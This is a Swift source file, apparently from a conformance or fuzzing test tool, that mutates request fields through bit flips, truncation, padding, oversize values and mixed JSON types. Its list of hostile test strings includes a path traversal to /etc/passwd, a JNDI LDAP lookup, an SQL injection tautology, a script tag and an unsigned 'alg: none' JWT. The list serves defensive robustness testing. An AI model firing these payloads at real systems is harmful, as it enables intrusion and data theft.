internal import AssayCore
internal import AssayKit

/// The hostile variants of a request's fields.
struct HostileFields: Sendable {
    let effort: ConformanceEffort

    /// How many positions of a field are changed.
    private var positions: Int { effort == .full ? 16_384 : 24 }

    /// Texts that readers have stumbled over.
    static let texts: [String] = [
        "", " ", "\u{0}", "a\u{0}b", "\u{202E}gnp.exe", "e\u{301}", "\u{E9}", "\u{FEFF}", "\u{1F600}", "\r\n\r\n",
        "../../../etc/passwd",
        "%00", "${jndi:ldap://192.0.2.1/a}", "' OR 1=1 --", "{\"a\":1}", "<script>", "null", "-1", "1e999",
        String(repeating: "9", count: 1000), "====", "AAAA", "e30.e30.", "....", "eyJhbGciOiJub25lIn0.e30.",
    ]

    /// Values of other types than text.
    static let otherTypes: [(what: String, value: JSON)] = [
        ("null", .null), ("true", .bool(true)), ("a number", .integer(-1)), ("an empty list", .array([])),
        ("an empty object", .object([])), ("a list of texts", .array(["a", "b"])), ("a fraction", .number(1.5)),
        ("a list in lists", (0..<24).reduce(JSON.array([])) { inner, _ in .array([inner]) }),
        ("an object in objects", (0..<24).reduce(JSON.object([])) { inner, _ in .object([JSONMember("a", inner)]) }),
    ]

    /// One bit of every byte of a text's content changed: of bytes in Base64, of the parts of a JWT, or of the text.
    func bitFlips(_ text: (path: [FieldChange.Step], text: String)) -> [FieldChange] {
        let count = FieldContent(text.text).byteCount
        return places(count).map { place in
            FieldChange(path: text.path, what: "a bit of byte \(place) of \(count) was flipped") { text in
                .string(FieldContent(text).flipping(place))
            }
        }
    }

    /// A text's content cut off at every length.
    func truncations(_ text: (path: [FieldChange.Step], text: String)) -> [FieldChange] {
        let count = FieldContent(text.text).byteCount
        return places(count).map { place in
            FieldChange(path: text.path, what: "cut to \(place) of \(count) bytes") { text in
                .string(FieldContent(text).cut(to: place))
            }
        }
    }

    /// A text with bytes after its end.
    func extensions(_ text: (path: [FieldChange.Step], text: String)) -> [FieldChange] {
        [1, 16].map { count in
            FieldChange(path: text.path, what: "\(count) bytes more at the end") { text in
                .string(FieldContent(text).extended(by: count))
            }
        }
    }

    /// A text that is longer than any limit, and one as long as the limit of the plugin allows.
    func oversize(_ text: (path: [FieldChange.Step], text: String), limit: Int) -> [FieldChange] {
        [limit + 1, 2 * limit + 64, 1_000_000].map { count in
            FieldChange(path: text.path, what: "\(count) characters in its place") { _ in
                .string(String(repeating: "A", count: count))
            }
        }
    }

    private func places(_ count: Int) -> [Int] {
        guard count > positions else { return Array(0..<count) }
        // Spread over the whole, with the ends.
        return (0..<positions).map { $0 * (count - 1) / (positions - 1) }
    }
}

/// What a text stands for: bytes in Base64, the parts of a JWT (or one part), or itself.
private enum FieldContent {
    case bytes([UInt8])
    case parts([[UInt8]])
    case text([UInt8])

    init(_ text: String) {
        let parts = text.split(onASCII: ".")
        if parts.count >= 3, parts.count <= 5, text.utf8.count > 32 {
            let decoded = parts.compactMap { Base64.decodeURL(utf8: Array($0.utf8)[...]) }
            if decoded.count == parts.count {
                self = .parts(decoded)
                return
            }
        }
        // In the alphabet of URLs it stays in it. Shorter ones are rather words.
        if text.utf8.count >= 22, text.utf8.contains(where: { $0 == UInt8(ascii: "-") || $0 == UInt8(ascii: "_") }),
            let bytes = Base64.decodeURL(utf8: Array(text.utf8)[...])
        {
            self = .parts([bytes])
        } else if text.utf8.count >= 22, let bytes = Base64.decode(text) {
            self = .bytes(bytes)
        } else {
            self = .text(Array(text.utf8))
        }
    }

    var byteCount: Int {
        switch self {
        case .bytes(let bytes), .text(let bytes): bytes.count
        case .parts(let parts): parts.reduce(0) { $0 + $1.count }
        }
    }

    func flipping(_ place: Int) -> String {
        switch self {
        case .bytes(var bytes):
            if bytes.indices.contains(place) { bytes[place] ^= 1 << UInt8(place % 8) }
            return Base64.encode(bytes)
        case .text(var bytes):
            // The result is text, and not one that differs in the case of a letter only.
            if bytes.indices.contains(place) { bytes[place] = bytes[place] < 0x80 ? bytes[place] ^ 1 : 0x3F }
            return String(decoding: bytes, as: UTF8.self)
        case .parts(var parts):
            var rest = place
            for index in parts.indices {
                if rest < parts[index].count {
                    parts[index][rest] ^= 1 << UInt8(place % 8)
                    break
                }
                rest -= parts[index].count
            }
            return parts.map { Base64.encodeURL($0) }.joined(separator: ".")
        }
    }

    func cut(to count: Int) -> String {
        switch self {
        case .bytes(let bytes): return Base64.encode(bytes.prefix(count))
        case .text(let bytes): return String(decoding: bytes.prefix(count), as: UTF8.self)
        case .parts(let parts):
            var rest = count
            return parts.map { part in
                let kept = part.prefix(rest)
                rest -= kept.count
                return Base64.encodeURL(kept)
            }.joined(separator: ".")
        }
    }

    func extended(by count: Int) -> String {
        let more = [UInt8](repeating: 0x41, count: count)
        switch self {
        case .bytes(let bytes): return Base64.encode(bytes + more)
        case .text(let bytes): return String(decoding: bytes + more, as: UTF8.self)
        case .parts(var parts):
            if let last = parts.popLast() { parts.append(last + more) }
            return parts.map { Base64.encodeURL($0) }.joined(separator: ".")
        }
    }
}
